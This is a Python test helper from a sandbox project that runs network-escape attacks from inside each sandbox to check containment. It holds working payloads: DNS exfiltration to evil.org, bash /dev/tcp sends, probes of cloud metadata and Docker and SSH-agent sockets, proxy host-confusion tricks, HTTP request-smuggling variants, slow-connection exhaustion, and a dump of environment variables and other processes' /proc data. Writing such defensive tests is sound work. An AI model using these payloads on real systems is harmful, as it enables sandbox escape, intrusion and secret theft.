#!/usr/bin/env python3
# SPDX-License-Identifier: BSL-1.0
# Copyright the cofferdam authors. See LICENSE.
"""Attacks on the network by a program in a sandbox. A test runs them in each kind of sandbox, and outside as a control.

    python3 guest_attacks.py ATTACK WORDS...

Each attack is the function of the same name. It prints what it has seen; the tests judge by what has arrived outside.
"""
import array
import os
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from concurrent.futures import ThreadPoolExecutor


def proxy():
    """Connects to the proxy that the environment names."""
    url = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
    return socket.create_connection((url.hostname, url.port), timeout=10)


def receive(client, mark=b"", seconds=10):
    """Receives until `mark`, or to the end."""
    client.settimeout(seconds)
    data = b""
    try:
        while not mark or mark not in data:
            piece = client.recv(65536)
            if not piece:
                break
            data += piece
    except OSError:
        pass
    return data


def exchange(request, seconds=10):
    """Sends a request to the proxy, and returns all that it answers."""
    with proxy() as client:
        try:
            client.sendall(request)
        except OSError:
            pass
        return receive(client, seconds=seconds)


def status(answer):
    words = answer.split(b"\r\n")[0].split(b" ")
    return words[1].decode("ascii", "replace") if len(words) > 1 else "none"


def get(host, path="/", seconds=10):
    host = host if isinstance(host, bytes) else host.encode()
    return exchange(b"GET http://" + host + path.encode() + b" HTTP/1.1\r\nHost: " + host +
                    b"\r\nConnection: close\r\n\r\n", seconds)


def connect(place):
    """Opens a tunnel. Returns the client and the status."""
    client = proxy()
    place = place if isinstance(place, bytes) else place.encode()
    client.sendall(b"CONNECT " + place + b" HTTP/1.1\r\nHost: " + place + b"\r\n\r\n")
    return client, status(receive(client, b"\r\n\r\n"))


def socks(kind, address, port):
    """Requests a connection by SOCKS5, and returns the code of the answer."""
    with proxy() as client:
        client.sendall(b"\x05\x01\x00" + b"\x05\x01\x00" + kind + address + int(port).to_bytes(2, "big"))
        client.settimeout(3)
        answer = b""
        try:
            while len(answer) < 4:
                piece = client.recv(4096)
                if not piece:
                    break
                answer += piece
        except OSError:
            pass
        return answer[3] if len(answer) > 3 else -1


# ---- past the proxy --------------------------------------------------------------------------------------------------

QUERY = bytes.fromhex("123401000001000000000000") + b"\x10secret-in-a-name\x04evil\x03org\x00\x00\x10\x00\x01"  # DNS, TXT
QUIC = b"\xc3\x00\x00\x00\x01\x08" + bytes(1194)  # the size of a first packet


def attempt(family, kind, address, payload):
    try:
        with socket.socket(family, kind) as client:
            client.settimeout(1)
            if kind == socket.SOCK_DGRAM and family == socket.AF_INET:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            client.connect(address)
            client.sendall(payload)
            return f"{address[0]}: sent"
    except OSError as failure:
        return f"{address[0]}: {failure.strerror or failure}"


EVERYWHERE = {"127.0.0.2", "0.0.0.0", "::ffff:127.0.0.1", "10.0.2.2", "172.17.0.1", "192.168.65.7", "192.0.2.1",
              "169.254.169.254", "fd00:ec2::254", "2001:db8::1", "224.0.0.1", "ff02::1", "255.255.255.255"}


def sweep(tcp, udp, *addresses):
    """Sends to a TCP and a UDP port of addresses; the word `everywhere` adds those that others could have."""
    tasks = []
    places = {"127.0.0.1", "::1", *addresses} - {"everywhere"}
    if "everywhere" in addresses:
        places |= EVERYWHERE
        tasks.append(lambda: attempt(socket.AF_VSOCK, socket.SOCK_STREAM, (2, int(tcp)), b"x"))
        tasks += [lambda k=kind: attempt_ping(k) for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM)]
        for name in ("localhost", "host.docker.internal", "secret-in-a-name.evil.org"):
            try:
                places |= {found[4][0] for found in socket.getaddrinfo(name, None)}
            except OSError:
                pass
    for place in places:
        family = socket.AF_INET6 if ":" in place else socket.AF_INET
        tasks.append(lambda f=family, p=place: attempt(f, socket.SOCK_STREAM, (p, int(tcp)), b"GET / HTTP/1.0\r\n\r\n"))
        for payload in (QUERY, QUIC):
            tasks.append(lambda f=family, p=place, d=payload: attempt(f, socket.SOCK_DGRAM, (p, int(udp)), d))
        if family == socket.AF_INET:
            tasks.append(lambda p=place: subprocess.run(
                ["timeout", "1", "bash", "-c", f"echo x >/dev/tcp/{p}/{tcp}"], stderr=subprocess.DEVNULL))
    with ThreadPoolExecutor(16) as pool:
        outcomes = list(pool.map(lambda task: task(), tasks))
    print([outcome for outcome in outcomes if isinstance(outcome, str)])


def attempt_ping(kind):
    try:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as client:
            client.sendto(b"\x08\x00\xf7\xfd\x00\x01\x00\x01", ("192.0.2.1", 0))
            return "ping: sent"
    except OSError as failure:
        return f"ping: {failure.strerror}"


def sockets(*names):
    """Connects to Unix sockets of the host, `@` for abstract names. Prints the content of a file that comes with it."""
    usual = ["/var/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock",
             "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "@/tmp/.X11-unix/X0", os.environ.get("SSH_AUTH_SOCK", "")]
    for name in (*names, *filter(None, usual)):
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(5)
            try:
                client.connect("\0" + name[1:] if name[0] == "@" else name)
                content = ""
                if name in names:
                    rights = client.recvmsg(1, socket.CMSG_SPACE(4))[1]
                    content = os.pread(array.array("i", rights[0][2])[0], 100, 0).decode()
                print(f"connected: {content}")
            except OSError as failure:
                print(f"none: {failure.strerror}")
    one, other = socket.socketpair()
    one.send(b"pair")
    print(other.recv(9).decode())


def serve():
    """Listens on all addresses, prints them, and answers each connection."""
    server = socket.create_server(("", 0), family=socket.AF_INET)
    own = ["127.0.0.1"]
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as route:
            route.connect(("10.255.255.255", 1))
            own.append(route.getsockname()[0])
    except OSError:
        pass
    print(server.getsockname()[1], *own, flush=True)
    server.settimeout(30)
    while True:
        client = server.accept()[0]
        client.sendall(b"inside\n")
        client.close()


# ---- through the proxy -----------------------------------------------------------------------------------------------

def hosts(*names):
    """Requests names by GET, and prints the statuses. `%XX` in a name is a byte."""
    for name in names:
        print(name, status(get(urllib.parse.unquote_to_bytes(name))))


def odd_hosts(host, evil):
    """Names that look like `host` to a careless reader."""
    host, evil = host.encode(), evil.encode()
    for name in (b"evil-" + host, host + b"." + evil, host + b"@" + evil, evil + b"#" + host, evil + b"\\@" + host,
                 host + b"\0." + evil, host + b"%00." + evil, host.replace(b".", b"%2e", 1), host + b"..",
                 host.replace(b"e", "\u0435".encode(), 1), b"xn--" + host, host + b":22", host + b":0x50",
                 host + b" " + evil, host + b"\t." + evil, host + b"/@" + evil, b".", b"", b"*"):
        answer = get(name)
        client, tunnel = connect(name + b":80")
        client.close()
        print(name, status(answer), tunnel)


def addresses(port):
    """The loopback address in every form, by GET, CONNECT and SOCKS5."""
    forms = ["127.0.0.1", "127.1", "2130706433", "017700000001", "0177.0.0.1", "0177.1", "0x7f.1", "0x7f000001", "0",
             "0.0.0.0", "127.0.0.1.", "127.0.0.2", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
             "[::127.0.0.1]", "[0:0:0:0:0:ffff:127.0.0.1]", "[64:ff9b::127.0.0.1]", "[::1%25lo]", "localhost", "localhost.",
             "localhost.localdomain", "ip6-localhost", "127.0.0.1.nip.io"]
    for form in forms:
        place = f"{form}:{port}"
        client, tunnel = connect(place)
        if tunnel == "200":
            client.sendall(b"GET / HTTP/1.0\r\n\r\n")
            receive(client, seconds=3)
        client.close()
        name = form.strip("[]").encode()
        print(form, status(get(place)), tunnel, socks(b"\x03" + bytes([len(name)]), name, port))
    print("v4", socks(b"\x01", socket.inet_pton(socket.AF_INET, "127.0.0.1"), port))
    for form in ("::1", "::ffff:127.0.0.1"):
        print("v6", form, socks(b"\x04", socket.inet_pton(socket.AF_INET6, form), port))


def hello(name):
    """Returns the first message of TLS with a server name, or with none."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def through(place, data):
    """Sends data through a tunnel, and prints the beginning of the answer."""
    client, opened = connect(place)
    if opened == "200":
        client.sendall(data)
        print(place, opened, receive(client, seconds=3)[:40])
    else:
        print(place, opened)
    client.close()


def tls(place, name):
    """TLS through a tunnel, with another server name or none if `name` is empty."""
    through(place, hello(name or None))


def tunnels(web, secure, evil):
    """Tunnels to allowed hosts, in which another host is requested. `evil` is HOST:PORT."""
    name = evil.rpartition(":")[0]
    for sni in ("evil.example.org", secure + ".evil.org", "evil-" + secure, None):
        through(secure + ":443", hello(sni))
    through(secure + ":443", f"GET / HTTP/1.1\r\nHost: {secure}\r\n\r\n".encode())
    through(secure + ":443", b"SSH-2.0-evil\r\n")
    through(web + ":80", hello("evil.example.org"))
    for host in (evil, name, "evil.example.org"):
        through(web + ":80", f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        through(web + ":80", f"GET http://{host}/ HTTP/1.1\r\nHost: {web}\r\n\r\n".encode())
        through(web + ":80", f"GET / HTTP/1.1\r\nHost: {web}\r\nHost: {host}\r\n\r\n".encode())
        through(web + ":80", f"GET / HTTP/1.1\r\nHost: {web}\r\n\r\nGET /evil HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    through(web + ":80", f"CONNECT {evil} HTTP/1.1\r\nHost: {evil}\r\n\r\nGET / HTTP/1.0\r\n\r\n".encode())
    for place in (web + ":22", secure + ":22", web + ":443", evil):
        through(place, b"GET / HTTP/1.0\r\n\r\n")


def smuggle(host, evil):
    """Requests that two readers could understand differently, with a hidden request for `evil`."""
    start = b"POST http://%b/ HTTP/1.1\r\n" % host.encode()
    own = b"Host: %b\r\n" % host.encode()
    hidden = b"GET http://%b/hidden HTTP/1.1\r\nHost: %b\r\n\r\n" % (evil.encode(), evil.encode())
    chunked = b"Transfer-Encoding: chunked\r\n"
    for request in (
            start + own + b"Content-Length: 4\r\n" + chunked + b"\r\n0\r\n\r\n" + hidden,
            start + own + chunked + b"Content-Length: 4\r\n\r\n0\r\n\r\n" + hidden,
            start + own + b"Content-Length: 0\r\nContent-Length: 44\r\n\r\n" + hidden,
            start + own + b"Content-Length: 44, 0\r\n\r\n" + hidden,
            start + own + b"Content-Length: +4\r\n\r\n" + hidden,
            start + own + b"Content-Length : 44\r\n\r\n" + hidden,
            start + own + b"Transfer-Encoding: xchunked\r\n\r\n" + hidden,
            start + own + b"Transfer-Encoding: chunked, identity\r\n\r\n" + hidden,
            start + own + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + hidden,
            start + own + chunked + b"\r\n-1\r\n" + hidden,
            start + own + chunked + b"\r\n4\r\nabcdX\r\n" + hidden,
            start + own + chunked + b"\r\nffffffffffffffffff\r\n" + hidden,
            start + own + b"Host: evil.org\r\n\r\n",
            start + b"Host: evil.org\r\n\r\n",
            start + b"\r\n",
            start + own + b" folded: x\r\n\r\n",
            start + own + b"A: b\nHost: evil.org\r\n\r\n",
            start + own + b"A: b\rHost: evil.org\r\n\r\n",
            start + own + b"A: b\0c\r\n\r\n",
            b"GET http://%b/\r\n\r\n" % host.encode(),
            b"GET http://%b\r\n.evil.org/ HTTP/1.1\r\n" % host.encode() + own + b"\r\n",
            b"GET http://%b/ HTTP/0.9\r\n\r\n" % host.encode(),
            b"GET http://%b/ HTTP/1.1\r\n" % host.encode() + own + b"X: " + b"x" * 1048576 + b"\r\n\r\n" + hidden,
            start + own + b"Content-Length: 3\r\n\r\nabc" + hidden,  # a whole request; the next one is decided as well
            b"GET http://%b/ HTTP/1.1\r\nHost: %b" % (host.encode(), host.encode())):  # never ends
        answer = exchange(request, 5)
        print(status(answer), answer.count(b"HTTP/1.1 2"), request[:100])


def relay(place, evil):
    """Bytes that are not HTTP, and then a request, through a tunnel for any bytes."""
    through(place, b": no HTTP\r\n\r\nGET /hidden HTTP/1.1\r\nHost: %b\r\n\r\n" % evil.encode())


def fetch(*urls, **fields):
    """Fetches URLs as a program does that uses the proxy for every host, and follows redirects."""
    for name in ("no_proxy", "NO_PROXY"):
        os.environ.pop(name, None)
    for url in urls:
        try:
            with urllib.request.urlopen(urllib.request.Request(url, headers=fields), timeout=20) as answer:
                print(answer.status, answer.read().decode("utf-8", "replace"))
        except urllib.error.HTTPError as answer:
            print(answer.code, answer.read().decode("utf-8", "replace"))
        except OSError as failure:
            print("failed:", failure)


def hold(*urls):
    """Fetches URLs, and keeps what it has received in memory."""
    fetch(*urls)
    print("waiting", flush=True)
    time.sleep(60)


def send_own(url, value):
    fetch(url, Authorization=value)


def look(*needles):
    """Prints everything that a program can read of its environment, of its own files and of other processes."""
    print(os.environ)
    for folder in ("/proc", "/tmp", "/etc", "/run", os.getcwd()):
        for at, folders, names in os.walk(folder):
            if folder == "/proc":
                folders[:] = [each for each in folders if at == "/proc" and each.isdigit()]
                names = [each for each in names if at != "/proc" and each in ("environ", "cmdline")]
            for name in names:
                try:
                    path = os.path.join(at, name)
                    if folder != "/proc" and (os.path.islink(path) or not os.path.isfile(path)):
                        continue
                    with open(path, "rb") as file:
                        sys.stdout.write(file.read(4 << 20).decode("latin-1"))
                except OSError:
                    pass
    sys.stdout.flush()


def slow(count, seconds):
    """Opens many connections to the proxy, and sends a byte from time to time."""
    clients, refused = [], 0
    for _ in range(int(count)):
        client = proxy()
        client.sendall(b"GET http://web.exa")
        clients.append(client)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for client in clients:
            try:
                client.sendall(b"m")
            except OSError:
                pass
        time.sleep(0.2)
    for client in clients:
        client.setblocking(False)
        try:
            refused += b" 503 " in client.recv(4096)
        except OSError:
            pass
    print("refused", refused)


def stall(place):
    """Requests what never ends, and reads none of it while other programs run."""
    client, opened = connect(place)
    client.sendall(b":x\n")
    print(opened, flush=True)
    threading.Event().wait(60)


globals()[sys.argv[1]](*sys.argv[2:])
